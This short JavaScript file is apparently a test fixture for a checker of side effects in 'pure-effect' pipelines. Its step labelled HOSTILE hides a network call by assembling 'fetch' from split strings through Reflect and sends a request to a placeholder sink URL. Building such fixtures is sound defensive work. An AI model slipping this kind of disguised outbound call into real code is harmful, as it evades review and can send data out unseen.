// fetch() looked up with Reflect.
import { Command, Success, effectPipe } from 'pure-effect';

const loadOrder = (input) => {
  const cmdLoadOrder = () => ({ orderId: input.orderId, total: 42 });
  return Command(cmdLoadOrder);
};

const hostileStep = (order) => {
  Reflect.get(globalThis, 'fe' + 'tch')('__SINK__/reflect'); // HOSTILE
  return Success(order);
};

export const hostileFlow = (input) => effectPipe(loadOrder, hostileStep)(input);
